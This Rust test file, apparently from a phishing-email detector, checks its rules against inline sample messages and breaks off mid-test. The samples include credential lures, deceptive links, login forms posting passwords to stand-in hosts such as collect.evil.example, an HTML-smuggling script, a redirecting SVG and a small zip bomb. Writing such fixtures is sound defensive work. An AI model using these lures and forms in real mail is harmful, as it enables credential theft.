//! Technique-named tests over small inline messages.

use super::*;
use crate::brand::BrandSet;
use crate::config::{builtin_brands, Brand};
use mail_parser::MessageParser;

/// The next number of a xorshift64 sequence (13, 7, 17): the generated-input tests' source of variety.
pub(crate) fn xorshift(seed: &mut u64) -> u64 {
    *seed ^= *seed << 13;
    *seed ^= *seed >> 7;
    *seed ^= *seed << 17;
    *seed
}

/// A QR code (PNG, made with python `qrcode`) for https://openai-verify.example/login
const QR_PNG_B64: &str = "iVBORw0KGgoAAAANSUhEUgAAAIQAAACEAQAAAAB5P74KAAAA+0lEQVR4nMWWawrDMAyDfQPf/5a6gWfJYYT9q1xYYKv7FVI/FG1RPwvxZxIRWZH9UWiTrEr0V3OFNuldmwSQCncEvWntSW+Nyh0phg1w1/6csN1nXbN4Tmb83PrWxnPCMlUvAhsSbFbfMMJUahGpMiUDbmsT3nar2HemahOWyHOiCGkTZXbSOz20CJSbulWjBJN0XidFPrVJ6zsVUuALwulDKqek0iacX835pyBs0pLCuECpbJfw2HNy6nuWTbjkAWNtNpHz07I5ApRNxtlSxn875GMyF70ja0cypcqMqBVhkuAIvxkaRGqiXTO/sslxfv0wYkHe+r/xDvkADVj/sb/bxZMAAAAASUVORK5CYII=";

fn brands() -> BrandSet {
    let mut b = builtin_brands();
    b[0].legitimate_domains.push("sendgrid.net".into());
    b.push(Brand {
        name: "PayPal".into(),
        aliases: vec![],
        domains: vec!["paypal.com".into()],
        legitimate_domains: vec![],
        senders: vec![],
        overrides: Default::default(),
    });
    BrandSet::new(b)
}

/// Stand-in for the core's lookalike matcher: a brand name as a word in a foreign host.
fn lookalike_of(set: &BrandSet) -> impl Fn(&str) -> Option<(String, String)> + '_ {
    move |host: &str| {
        if set.owner_of(host).is_some() {
            return None;
        }
        let suffix = psl::suffix_str(host).unwrap_or("");
        let below = host.strip_suffix(suffix).unwrap_or(host).trim_end_matches('.');
        let hit = set.named_in(below)?;
        let b = &set.brands[hit.brand];
        Some((b.name.clone(), format!("{host} ~ {} (combosquat)", b.domains[0])))
    }
}

fn run_with(raw: &str, claimed: Option<usize>, limits: &Limits) -> (Vec<&'static str>, Vec<Finding>, Content) {
    let set = brands();
    let look = lookalike_of(&set);
    let msg = MessageParser::default().parse(raw.as_bytes()).expect("test message parses");
    let mut out = Vec::new();
    let content = check(
        &msg,
        &set,
        &crate::analysis::Facts { claimed_brand: claimed, ..Default::default() },
        &Phrases::builtin(),
        &look,
        limits,
        &Default::default(),
        &mut out,
    );
    (out.iter().map(|f| f.rule).collect(), out, content)
}

fn run(raw: &str, claimed: Option<usize>) -> Vec<&'static str> {
    run_with(raw, claimed, &Limits::default()).0
}

fn html_msg(from: &str, html: &str) -> String {
    format!("From: {from}\r\nTo: jean@rcpt.example\r\nSubject: Notice\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")
}

fn text_msg(from: &str, extra: &str, body: &str) -> String {
    format!("From: {from}\r\n{extra}To: jean@rcpt.example\r\nSubject: Notice\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n")
}

fn b64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for c in data.chunks(3) {
        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            if i <= c.len() {
                s.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

fn b64_decode(s: &str) -> Vec<u8> {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let vals: Vec<u32> = s.bytes().filter_map(|b| T.iter().position(|t| *t == b).map(|p| p as u32)).collect();
    let mut out = Vec::new();
    for c in vals.chunks(4) {
        let n = c.iter().enumerate().fold(0u32, |n, (i, v)| n | v << (18 - 6 * i));
        for i in 0..c.len().saturating_sub(1) {
            out.push((n >> (16 - 8 * i)) as u8);
        }
    }
    out
}

fn with_attachment(from: &str, body: &str, ctype: &str, name: &str, data: &[u8]) -> String {
    format!(
        "From: {from}\r\nTo: jean@rcpt.example\r\nSubject: Document\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
         --b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n\
         --b1\r\nContent-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b1--\r\n",
        b64(data)
    )
}

/// A zip with only local headers, entries named `names` (enough for name listing).
fn zip_of(names: &[&str]) -> Vec<u8> {
    let mut z = Vec::new();
    for n in names {
        z.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00");
        z.extend_from_slice(&(n.len() as u16).to_le_bytes());
        z.extend_from_slice(&[0, 0]);
        z.extend_from_slice(n.as_bytes());
    }
    z
}

const FOREIGN: &str = "\"OpenAI Security\" <security@mail-notify.example>";

// ---- phrases through the whole pipeline ----

#[test]
fn spanish_api_key_lure_is_found() {
    let r = run(&text_msg(FOREIGN, "", "Estimado cliente: confirme su clave API en las próximas 24 horas."), None);
    assert!(r.contains(&LURE_API_KEY) && r.contains(&LURE_ACCOUNT_THREAT), "{r:?}");
}

#[test]
fn letter_spaced_password_is_found() {
    let r = run(&text_msg(FOREIGN, "", "Please c o n f i r m  y o u r  p a s s w o r d to continue."), None);
    assert!(r.contains(&LURE_PASSWORD), "{r:?}");
}

#[test]
fn french_verification_code_ask_in_html_is_found() {
    let (r, f, _) = run_with(&html_msg(FOREIGN, "<p>Saisissez le <b>code de vérification</b> reçu par SMS.</p>"), None, &Limits::default());
    assert!(r.contains(&LURE_MFA_CODE), "{r:?}");
    assert!(f.iter().any(|f| f.rule == LURE_MFA_CODE && f.evidence.contains("(fr)")), "{f:?}");
}

#[test]
fn incident_themed_lure_names_vendor() {
    let r = run(&text_msg(FOREIGN, "", "Following a security incident at Mixpanel, a third-party vendor, verify your API account."), None);
    assert!(r.contains(&LURE_INCIDENT) && r.contains(&LURE_API_KEY), "{r:?}");
}

#[test]
fn credential_lure_with_brand_claim_is_combined() {
    let r = run(&text_msg(FOREIGN, "", "Send us the verification code we just sent you."), Some(0));
    assert!(r.contains(&LURE_MFA_CODE) && r.contains(&CREDENTIAL_LURE_BRAND_CLAIM), "{r:?}");
}

#[test]
fn brand_own_mail_asking_for_code_is_not_a_combined_lure() {
    let r = run(&text_msg("\"OpenAI\" <noreply@tm.openai.com>", "", "Enter the verification code to sign in."), Some(0));
    assert!(!r.contains(&CREDENTIAL_LURE_BRAND_CLAIM), "{r:?}");
}

#[test]
fn zero_width_characters_inside_words_are_reported() {
    let r = run(&text_msg(FOREIGN, "", "v\u{200B}e\u{200B}r\u{200B}i\u{200B}fy your pass\u{200C}word"), None);
    assert!(r.contains(&TEXT_ZERO_WIDTH_OBFUSCATION) && r.contains(&LURE_PASSWORD), "{r:?}");
}

// ---- senders ----

#[test]
fn reply_to_freemail_while_claiming_brand() {
    let r = run(&text_msg(FOREIGN, "Reply-To: openai.billing@gmail.com\r\n", "Hello"), Some(0));
    assert_eq!(r, vec![REPLY_TO_FREEMAIL_BRAND_CLAIM]);
}

#[test]
fn mailto_link_to_lookalike_domain() {
    let r = run(&html_msg("Support <help@partner.example>", "<a href='mailto:help@openai-billing.example'>write to us</a>"), None);
    assert_eq!(r, vec![MAILTO_LOOKALIKE]);
    // the Reply-To header itself is the core's LOOKALIKE_REPLY_TO
    let r = run(&text_msg("Support <help@partner.example>", "Reply-To: help@openai-billing.example\r\n", "Hello"), None);
    assert!(r.is_empty(), "{r:?}");
}

#[test]
fn brand_domain_spoof_with_foreign_reply_to() {
    let r = run(&text_msg("\"OpenAI\" <noreply@openai.com>", "Reply-To: desk@recovery-team.example\r\n", "Hello"), Some(0));
    assert_eq!(r, vec![REPLY_TO_OUTSIDE_BRAND]);
}

#[test]
fn mailto_link_to_freemail_counts_as_reply_address() {
    let r = run(
        &html_msg(FOREIGN, "<p>If this wasn't you, <a href='mailto:report.openai@outlook.com?subject=x'>report the user</a></p>"),
        Some(0),
    );
    assert!(r.contains(&REPLY_TO_FREEMAIL_BRAND_CLAIM), "{r:?}");
}

#[test]
fn mixed_script_display_name() {
    // Greek capital Alpha and omicron inside a Latin word
    let r = run(&text_msg("\"\u{391}irdr\u{3BF}p Team\" <x@sender.example>", "", "Hello"), None);
    assert_eq!(r, vec![FROM_NAME_HIDDEN_CHARACTERS]);
}

#[test]
fn zero_width_in_display_name() {
    let r = run(&text_msg("\"Open\u{200B}AI\" <x@sender.example>", "", "Hello"), None);
    assert_eq!(r, vec![FROM_NAME_HIDDEN_CHARACTERS]);
}

// ---- links ----

#[test]
fn userinfo_trick_link() {
    let r = run(&text_msg(FOREIGN, "", "Log in: https://platform.openai.com@evil.example/login"), None);
    assert_eq!(r, vec![LINK_USERINFO]);
}

#[test]
fn ip_literal_link() {
    let r = run(&html_msg(FOREIGN, "<a href='http://203.0.113.9/account'>Open</a>"), None);
    assert_eq!(r, vec![LINK_IP_HOST]);
}

#[test]
fn punycode_link() {
    let (_, f, _) = run_with(&text_msg(FOREIGN, "", "Visit https://xn--penai-5ve.example/ now"), None, &Limits::default());
    assert!(f.iter().any(|f| f.rule == LINK_PUNYCODE_HOST && f.evidence.contains("xn--penai-5ve.example")), "{f:?}");
}

#[test]
fn shortener_link() {
    assert_eq!(run(&text_msg(FOREIGN, "", "see https://bit.ly/3abcd"), None), vec![LINK_SHORTENER]);
}

#[test]
fn javascript_and_data_links() {
    let r = run(
        &html_msg(
            FOREIGN,
            "<a href='javascript:alert(1)'>x</a><a href='data:text/html;base64,PGgxPg=='>y</a><img src='data:image/png;base64,AAAA'>",
        ),
        None,
    );
    assert_eq!(r, vec![LINK_SCRIPT_OR_DATA_URL]);
}

#[test]
fn anchor_shows_brand_domain_but_goes_elsewhere() {
    let r = run(&html_msg(FOREIGN, "<a href='https://login.evil.example/'>https://platform.openai.com/login</a>"), Some(0));
    assert!(r.contains(&LINK_DISPLAYED_BRAND_DOMAIN), "{r:?}");
}

#[test]
fn anchor_names_brand_but_goes_elsewhere() {
    let r = run(&html_msg(FOREIGN, "<a href='https://login.evil.example/'>Sign in to OpenAI</a>"), Some(0));
    assert_eq!(r, vec![LINK_BRAND_TEXT_FOREIGN_HREF]);
}

#[test]
fn lookalike_href_host() {
    let r = run(&html_msg(FOREIGN, "<a href='https://openai-support.example/verify'>Verify</a>"), None);
    assert_eq!(r, vec![LINK_LOOKALIKE_HOST]);
}

#[test]
fn brand_in_path_of_foreign_host() {
    let r = run(&html_msg(FOREIGN, "<a href='https://evil.example/openai/login?next=1'>Continue</a>"), Some(0));
    assert_eq!(r, vec![LINK_BRAND_IN_PATH]);
}

#[test]
fn redirector_destination_is_judged() {
    let r = run(&html_msg(FOREIGN, "<a href='https://redirect.example/r?url=https%3A%2F%2Fopenai-login.example%2F'>Go</a>"), None);
    assert_eq!(r, vec![LINK_LOOKALIKE_HOST]);
}

#[test]
fn brand_owned_click_tracker_is_never_a_finding() {
    // sendgrid.net is in the test profile's legitimate_domains
    let html = "<a href='https://u123.ct.sendgrid.net/ls/click?upn=abc'>https://platform.openai.com/account</a>\
                <a href='https://platform.openai.com/openai/login'>Sign in to OpenAI</a>";
    assert!(run(&html_msg("\"OpenAI\" <noreply@email.openai.com>", html), Some(0)).is_empty());
}

#[test]
fn form_posting_credentials_to_external_host() {
    let html =
        "<form method='post' action='https://collect.evil.example/p'><input type='email' name='e'><input type='password' name='p'></form>";
    let r = run(&html_msg(FOREIGN, html), None);
    assert!(r.contains(&FORM_EXTERNAL_ACTION) && r.contains(&FORM_PASSWORD_FIELD), "{r:?}");
}

#[test]
fn search_box_form_is_not_a_credential_form() {
    let html = "<form method='post' action='https://www.news.example/search'><input type='text' name='q'></form>";
    assert!(run(&html_msg("News <news@news.example>", html), None).is_empty());
}

#[test]
fn qr_code_in_image_goes_to_lookalike() {
    let png = b64_decode(QR_PNG_B64);
    let (_, f, c) =
        run_with(&with_attachment(FOREIGN, "Scan to keep your account", "image/png", "image.png", &png), None, &Limits::default());
    assert!(c.links.iter().any(|l| l.source == LinkSource::Qr("image.png".into())), "{:?}", c.links);
    let look = f.iter().find(|f| f.rule == LINK_LOOKALIKE_HOST).expect("lookalike finding");
    assert!(look.evidence.starts_with("QR code in image.png: https://openai-verify.example/login"), "{}", look.evidence);
    assert!(f.iter().any(|f| f.rule == QR_CODE_LINK));
}

#[test]
fn oversized_image_is_not_decoded() {
    let png = b64_decode(QR_PNG_B64);
    let limits = Limits { max_image_pixels: 100, ..Limits::default() };
    let (r, _, c) = run_with(&with_attachment(FOREIGN, "Scan", "image/png", "image.png", &png), None, &limits);
    assert!(c.links.is_empty());
    assert_eq!(r, vec![CONTENT_LIMIT_REACHED]);
}

#[test]
fn qr_time_budget_spent_is_a_limit_reached() {
    let png = b64_decode(QR_PNG_B64);
    let limits = Limits { max_qr_time: std::time::Duration::ZERO, ..Limits::default() };
    let (r, f, c) = run_with(&with_attachment(FOREIGN, "Scan", "image/png", "image.png", &png), None, &limits);
    assert!(c.links.is_empty());
    assert_eq!(r, vec![CONTENT_LIMIT_REACHED]);
    assert_eq!(f[0].evidence, "max_qr_time (0 ms): image.png not decoded, out of time before decoding");
}

#[test]
fn four_qr_codes_in_one_image_stay_under_the_finder_limit() {
    let one = image::load_from_memory(&b64_decode(QR_PNG_B64)).expect("fixture PNG").to_luma8();
    let (w, h) = (one.width() * 3 / 2, one.height() * 3 / 2);
    let mut four = image::GrayImage::from_pixel(w * 2, h * 2, image::Luma([255]));
    for (x, y) in [(0, 0), (w, 0), (0, h), (w, h)] {
        image::imageops::replace(&mut four, &one, x as i64, y as i64);
    }
    let dark = |x: usize, y: usize| four.get_pixel(x as u32, y as u32)[0] < 128;
    assert_eq!(qr::finder_candidates(w as usize * 2, h as usize * 2, dark), 12);
    let mut png = Vec::new();
    four.write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png).expect("encode PNG");
    // not skipped (rqrr itself reads one of these four identical codes)
    let texts = qr::decode(&png, &Limits::default(), std::time::Instant::now() + std::time::Duration::from_secs(60)).expect("decoded");
    assert!(texts.contains(&"https://openai-verify.example/login".to_string()), "{texts:?}");
}

#[test]
fn nesting_cut_is_reported_with_its_limit() {
    let html = format!("<body>{}Verify your password", "<div>".repeat(40));
    let (r, f, _) = run_with(&html_msg(FOREIGN, &html), None, &Limits { max_html_depth: 32, ..Limits::default() });
    assert!(r.contains(&LURE_PASSWORD), "{r:?}");
    let limit = f.iter().find(|f| f.rule == CONTENT_LIMIT_REACHED).expect("limit finding");
    assert!(limit.evidence.starts_with("max_html_depth (32): HTML body nested deeper at byte "), "{}", limit.evidence);
}

// ---- attachments ----

#[test]
fn executable_attachment() {
    let r = run(&with_attachment(FOREIGN, "Invoice attached", "application/octet-stream", "invoice.pdf.exe", b"MZ\x90\x00"), None);
    assert_eq!(r, vec![ATTACHMENT_EXECUTABLE]);
}

#[test]
fn script_inside_zip_archive() {
    let (_, f, _) = run_with(
        &with_attachment(FOREIGN, "Invoice", "application/zip", "invoice.zip", &zip_of(&["readme.txt", "invoice.js"])),
        None,
        &Limits::default(),
    );
    let rules: Vec<_> = f.iter().map(|f| f.rule).collect();
    assert_eq!(rules, vec![ATTACHMENT_ARCHIVE, ATTACHMENT_EXECUTABLE]);
    assert_eq!(f[1].evidence, "invoice.js inside invoice.zip");
}

#[test]
fn macro_enabled_office_document() {
    let r = run(
        &with_attachment(
            FOREIGN,
            "Invoice",
            "application/vnd.ms-word.document.macroEnabled.12",
            "invoice.docm",
            &zip_of(&["word/document.xml"]),
        ),
        None,
    );
    assert_eq!(r, vec![ATTACHMENT_MACRO_OFFICE]);
    let r = run(
        &with_attachment(
            FOREIGN,
            "Invoice",
            "application/octet-stream",
            "invoice.docx",
            &zip_of(&["[Content_Types].xml", "word/vbaProject.bin"]),
        ),
        None,
    );
    assert_eq!(r, vec![ATTACHMENT_MACRO_OFFICE]);
}

#[test]
fn plain_office_document_is_not_a_finding() {
    let r = run(
        &with_attachment(
            FOREIGN,
            "Report",
            "application/octet-stream",
            "report.docx",
            &zip_of(&["[Content_Types].xml", "word/document.xml"]),
        ),
        None,
    );
    assert!(r.is_empty(), "{r:?}");
}

#[test]
fn disk_image_and_shortcut_attachments() {
    assert_eq!(
        run(&with_attachment(FOREIGN, "x", "application/octet-stream", "statement.iso", b"\0\0\0\0"), None),
        vec![ATTACHMENT_DISK_IMAGE_OR_SHORTCUT]
    );
    assert_eq!(
        run(&with_attachment(FOREIGN, "x", "application/octet-stream", "doc.lnk", b"L\0\0\0\x01\x14\x02\0"), None),
        vec![ATTACHMENT_DISK_IMAGE_OR_SHORTCUT]
    );
}

#[test]
fn html_attachment_with_login_form() {
    let page = "<html><body><form action='https://collect.evil.example/'><input type='password' name='p'></form></body></html>";
    let r = run(&with_attachment(FOREIGN, "See attached", "text/html", "Secure_Message.html", page.as_bytes()), None);
    assert!(r.contains(&ATTACHMENT_HTML) && r.contains(&ATTACHMENT_HTML_LOGIN_FORM) && r.contains(&FORM_EXTERNAL_ACTION), "{r:?}");
}

#[test]
fn html_smuggling_attachment() {
    let page = "<html><body><script>var d=atob('UEsDBA==');var b=new Blob([d]);var u=URL.createObjectURL(b);</script></body></html>";
    let r = run(&with_attachment(FOREIGN, "See attached", "text/html", "invoice.htm", page.as_bytes()), None);
    assert_eq!(r, vec![ATTACHMENT_HTML, ATTACHMENT_HTML_SMUGGLING]);
}

#[test]
fn pdf_link_to_lookalike() {
    let pdf =
        b"%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://openai-billing.example/pay) >> >> endobj\n%%EOF";
    let (_, f, _) = run_with(&with_attachment(FOREIGN, "Invoice", "application/pdf", "invoice.pdf", pdf), None, &Limits::default());
    assert!(f.iter().any(|f| f.rule == LINK_LOOKALIKE_HOST && f.evidence.starts_with("in PDF invoice.pdf: ")), "{f:?}");
}

// ---- extraction and limits ----

#[test]
fn attached_message_text_is_read() {
    let raw = "From: a@b.example\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--x\r\nContent-Type: message/rfc822\r\n\r\nFrom: c@d.example\r\nSubject: inner\r\nContent-Type: text/plain\r\n\r\nYour account will be suspended.\r\n--x--\r\n";
    // read, but as forwarded text: not the sender's own ask
    let (rules, _, c) = run_with(raw, None, &Limits::default());
    assert_eq!(rules, vec![FORWARDED_LURE]);
    assert!(c.quoted_text.contains("your account will be suspended"), "{}", c.quoted_text);
    assert!(!c.text.contains("suspended"));
}

#[test]
fn part_limit_is_reported() {
    let mut raw =
        String::from("From: a@b.example\r\nSubject: many\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"x\"\r\n\r\n");
    for _ in 0..10 {
        raw.push_str("--x\r\nContent-Type: text/plain\r\n\r\nhello\r\n");
    }
    raw.push_str("--x--\r\n");
    let (r, _, c) = run_with(&raw, None, &Limits { max_parts: 3, ..Limits::default() });
    assert_eq!(r, vec![CONTENT_LIMIT_REACHED]);
    assert_eq!(c.limits_hit, vec!["max_parts (3)".to_string()]);
}

#[test]
fn openairinterface_list_mail_is_clean() {
    let raw = text_msg(
        "\"Jane via USRP-users\" <usrp-users@lists.ettus.com>",
        "Reply-To: usrp-users@lists.ettus.com\r\n",
        "Has anyone run OpenAirInterface with the X310? Logs: https://github.com/OPENAIRINTERFACE/openairinterface5g/issues/1",
    );
    assert!(run(&raw, None).is_empty());
}

#[test]
fn every_emitted_rule_is_registered() {
    let ids: Vec<&str> = RULES.iter().map(|r| r.id).collect();
    for (i, r) in RULES.iter().enumerate() {
        assert!(!ids[..i].contains(&r.id), "{} registered twice", r.id);
        assert!(!crate::analysis::catalog().filter(|c| !std::ptr::eq(*c, r)).any(|c| c.id == r.id), "{} clashes with a core rule", r.id);
    }
    for f in Family::ALL {
        assert!(ids.contains(&family_rule(f)));
    }
}

// ---- what the reader sees (issue 14 part 5) ----

const LURE: &str = "Your account will be suspended";

#[test]
fn hidden_text_is_not_read_and_each_way_is_told() {
    let cases = [
        ("<span style='font-size:0'>{}</span>", "font-size 0 or 1px"),
        ("<span style='font-size: 1px'>{}</span>", "font-size 0 or 1px"),
        ("<font size=0>{}</font>", "font-size 0 or 1px"),
        ("<div style='background:#ffffff'><span style='color:#FFF'>{}</span></div>", "same colour as background"),
        ("<table bgcolor=white><tr><td><font color=#fefefe>{}</font></td></tr></table>", "same colour as background"),
        ("<span style='color:transparent'>{}</span>", "transparent colour"),
        ("<span style='color:rgba(0,0,0,0)'>{}</span>", "transparent colour"),
        ("<div style='opacity:0'>{}</div>", "opacity:0"),
        ("<div style='position:absolute; left:-9999px'>{}</div>", "off-screen (negative position)"),
        ("<div style='text-indent:-5000px'>{}</div>", "off-screen (text-indent)"),
        ("<div style='width:0;height:0;overflow:hidden'>{}</div>", "zero-size box"),
        ("<div style='visibility:hidden'>{}</div>", "visibility:hidden"),
        ("<div hidden>{}</div>", "hidden attribute"),
        ("<div style='mso-hide:all'>{}</div>", "mso-hide:all"),
        ("<div style='display: none'>{}</div>", "display:none"),
    ];
    for (tpl, how) in cases {
        let h = html::html(&format!("<p>Hello</p>{}", tpl.replace("{}", LURE)), &Limits::default());
        assert_eq!(normalise::normalize(&h.text), "hello", "{tpl}");
        assert_eq!(h.hidden, vec![(how, LURE.len())], "{tpl}");
    }
}

#[test]
fn visible_text_stays_visible() {
    for tpl in [
        // a zero font-size wrapper whose content sets its size again (a common layout trick)
        "<div style='font-size:0'><p style='font-size:14px'>{}</p></div>",
        "<div style='background:#000'><span style='color:#fff'>{}</span></div>",
        "<div style='visibility:hidden'><span style='visibility:visible'>{}</span></div>",
        // white text with no inline background: its background is unknown, not assumed white
        "<span style='color:#ffffff'>{}</span>",
        "<div style='position:relative;left:-20px'>{}</div>",
    ] {
        let h = html::html(&tpl.replace("{}", LURE), &Limits::default());
        assert_eq!(normalise::normalize(&h.text), "your account will be suspended", "{tpl}");
        assert!(h.hidden.is_empty(), "{tpl}: {:?}", h.hidden);
    }
}

#[test]
fn hidden_text_breaking_a_lure_no_longer_breaks_it() {
    let r = run(&html_msg(FOREIGN, "<p>Confirm your pass<span style='font-size:0'>zq</span>word now</p>"), Some(0));
    assert!(r.contains(&LURE_PASSWORD), "{r:?}");
}

#[test]
fn hidden_brand_text_is_reported_unless_the_brand_sends_it() {
    let body = "<p>Hello</p><div style='font-size:0px;color:#fff'>OpenAI account verification team notice</div>";
    let (r, f, _) = run_with(&html_msg("\"Support\" <s@mail-notify.example>", body), None, &Limits::default());
    assert!(r.contains(&TEXT_HIDDEN_CONTENT), "{r:?}");
    let ev = &f.iter().find(|f| f.rule == TEXT_HIDDEN_CONTENT).expect("finding").evidence;
    assert!(ev.contains("names OpenAI") && ev.contains("bytes by font-size 0 or 1px") && !ev.contains("verification"), "{ev}");
    // the brand's own preheader
    assert!(!run(&html_msg("\"OpenAI\" <noreply@openai.com>", body), None).contains(&TEXT_HIDDEN_CONTENT));
    // hidden filler that names nothing
    assert!(
        !run(&html_msg(FOREIGN, "<p>Hi</p><div style='font-size:0'>lorem ipsum dolor sit amet</div>"), None).contains(&TEXT_HIDDEN_CONTENT)
    );
}

#[test]
fn body_of_one_linked_image_is_reported() {
    let body = "<html><body><a href='https://pay.mail-notify.example/x'><img src='cid:a1' width='600' alt=''></a></body></html>";
    let r = run(&html_msg(FOREIGN, body), None);
    assert!(r.contains(&BODY_IMAGE_ONLY_LINK), "{r:?}");
    let map = "<img src='cid:a1' usemap='#m'><map name='m'><area href='https://pay.mail-notify.example/x' coords='0,0,600,400'></map>";
    assert!(run(&html_msg(FOREIGN, map), None).contains(&BODY_IMAGE_ONLY_LINK));
    // a text mail with a linked logo, and a body with only a tracking pixel, are not
    let text = format!("<a href='https://x.example'><img src='cid:logo' width=120></a><p>{}</p>", "word ".repeat(40));
    assert!(!run(&html_msg(FOREIGN, &text), None).contains(&BODY_IMAGE_ONLY_LINK));
    let pixel = "<a href='https://x.example'><img src='https://x.example/p.gif' width=1 height=1></a>";
    assert!(!run(&html_msg(FOREIGN, pixel), None).contains(&BODY_IMAGE_ONLY_LINK));
}

#[test]
fn title_and_image_alts_are_exposed() {
    let c = run_with(
        &html_msg(FOREIGN, "<html><head><title> OpenAI  Billing </title></head><body><img src='cid:x' alt='ChatGPT logo'><img alt='ChatGPT logo'><p>x</p></body></html>"),
        None,
        &Limits::default(),
    )
    .2;
    assert_eq!(c.title.as_deref(), Some("OpenAI Billing"));
    assert_eq!(c.image_alts, vec!["ChatGPT logo".to_string()]);
}

#[test]
fn free_hosting_links_in_brand_claiming_mail() {
    for url in [
        "https://openai-billing.pages.dev/login",
        "https://x.y.workers.dev/",
        "https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/",
        "https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco",
        "https://forms.gle/abcDEF",
        "https://docs.google.com/forms/d/e/1FAIp/viewform",
        "https://storage.googleapis.com/bucket-x/index.html",
        "https://mybucket.s3.us-east-1.amazonaws.com/a.html",
        "https://acct.blob.core.windows.net/web/index.html",
        "https://pub-123.r2.dev/p.html",
        "https://someone.wixsite.com/openai",
    ] {
        let body = format!("<p>Open your dashboard</p><a href='{url}'>Open</a>");
        let (r, f, _) = run_with(&html_msg(FOREIGN, &body), Some(0), &Limits::default());
        assert!(r.contains(&LINK_FREE_HOSTING), "{url}: {r:?}");
        assert!(f.iter().any(|f| f.rule == LINK_FREE_HOSTING && f.evidence.contains("claims OpenAI")), "{url}");
        // no brand claimed: no finding
        assert!(!run(&html_msg(FOREIGN, &body), None).contains(&LINK_FREE_HOSTING), "{url}");
    }
    for url in
        ["https://www.wix.com/", "https://docs.google.com/document/d/1", "https://example.com/pages.dev", "https://mypages.dev.example/"]
    {
        let body = format!("<a href='{url}'>Open</a>");
        assert!(!run(&html_msg(FOREIGN, &body), Some(0)).contains(&LINK_FREE_HOSTING), "{url}");
    }
}

#[test]
fn svg_with_script_is_reported() {
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.location='https://openai-verify.example/x'</script></svg>";
    let (r, _, c) = run_with(&with_attachment(FOREIGN, "Voice message", "image/svg+xml", "voicemail.svg", svg), None, &Limits::default());
    assert!(r.contains(&ATTACHMENT_SVG_SCRIPT), "{r:?}");
    assert!(c.links.iter().any(|l| l.host.as_deref() == Some("openai-verify.example")), "{:?}", c.links);
    let logo = b"<svg xmlns='http://www.w3.org/2000/svg' width='10'><path d='M0 0'/></svg>";
    assert!(!run(&with_attachment(FOREIGN, "Logo", "image/svg+xml", "logo.svg", logo), None).contains(&ATTACHMENT_SVG_SCRIPT));
}

#[test]
fn html_declared_as_octet_stream_is_read_as_html() {
    let page = b"\xEF\xBB\xBF\r\n<!DOCTYPE html><html><body><form action='https://collect.example/p'><input type=email><input type=password></form>Sign in to OpenAI</body></html>";
    let (r, f, c) =
        run_with(&with_attachment(FOREIGN, "Invoice", "application/octet-stream", "invoice.dat", page), None, &Limits::default());
    assert!(r.contains(&ATTACHMENT_HTML) && r.contains(&ATTACHMENT_HTML_LOGIN_FORM), "{r:?}");
    assert!(f.iter().any(|f| f.rule == ATTACHMENT_HTML && f.evidence.contains("declared application/octet-stream")), "{f:?}");
    assert!(c.links.iter().any(|l| l.host.as_deref() == Some("collect.example")));
    assert!(c.text.contains("sign in to openai"));
}

/// A minimal PDF whose link annotation is inside a FlateDecode object stream, the URI as a hex string.
fn pdf_with_compressed_link(uri: &str) -> Vec<u8> {
    use std::io::Write;
    let hex: String = uri.bytes().map(|b| format!("{b:02X}")).collect();
    let obj = format!("1 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI <{hex}> >> >>");
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(obj.as_bytes()).expect("deflate");
    let data = z.finish().expect("deflate");
    let mut pdf =
        format!("%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n", data.len()).into_bytes();
    pdf.extend_from_slice(&data);
    pdf.extend_from_slice(b"\nendstream\nendobj\n%%EOF\n");
    pdf
}

#[test]
fn pdf_links_in_compressed_streams_and_hex_strings() {
    let pdf = pdf_with_compressed_link("https://openai-billing.example/pay");
    assert!(!pdf.windows(6).any(|w| w == b"openai"), "the URI is not in the file in clear");
    let (_, f, _) = run_with(&with_attachment(FOREIGN, "Invoice", "application/pdf", "invoice.pdf", &pdf), None, &Limits::default());
    assert!(
        f.iter().any(|f| f.rule == LINK_LOOKALIKE_HOST && f.evidence.starts_with("in PDF invoice.pdf: https://openai-billing.example/pay")),
        "{f:?}"
    );
}

#[test]
fn pdf_inflation_is_bounded() {
    use std::io::Write;
    // 3 MB of zeros deflate to a few KB: a small zip bomb
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(&vec![b' '; 3 * 1024 * 1024]).expect("deflate");
    z.write_all(b"/URI (https://openai-billing.example/late)").expect("deflate");
    let data = z.finish().expect("deflate");
